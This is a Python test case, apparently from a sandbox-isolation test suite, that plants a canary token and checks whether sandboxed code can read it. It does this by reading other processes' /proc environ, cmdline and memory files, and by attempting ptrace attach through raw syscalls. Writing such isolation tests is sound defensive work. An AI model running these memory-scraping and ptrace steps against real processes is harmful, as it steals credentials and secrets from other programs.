"""
id: a-other-processes
class: a
title: read a secret of the launcher in the environment and memory of every process in sight
source: design: /proc/1/environ and ptrace of process 1
"""
from esc import *


def setup(x):
    x.env("DEPLOY_TOKEN", x.canary())
    x.param("pidns", os.stat("/proc/self/ns/pid").st_ino)


def sandboxed(x):
    try:
        return os.stat("/proc/self/ns/pid").st_ino != x["pidns"]
    except OSError:
        return True


def memory(x, pid):
    """Everything that can be read of a process."""
    with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb") as mem:
        for line in maps:
            area = line.split()
            if area[1][0] == "r" and int(area[0].split("-")[1], 16) < 1 << 62:
                start, end = [int(n, 16) for n in area[0].split("-")]
                mem.seek(start)
                data = mem.read(min(end - start, 1 << 22))
                at = data.find(b"CANARY-")
                if at >= 0:
                    x.loot(data[at:at + 40])


def attack(x):
    x.steal("/proc/self/environ")
    if not sandboxed(x):
        return                       # the host's other processes are none of ours
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            for part in ("environ", "cmdline", "auxv"):
                x.steal("/proc/%s/%s" % (pid, part))
            x.attempt(memory, x, pid)
            x.attempt(syscall, 101, 16, int(pid), 0, 0)       # PTRACE_ATTACH
            x.attempt(syscall, 101, 17, int(pid), 0, 0)


def verdict(x):
    return x.leaked()


main(globals())
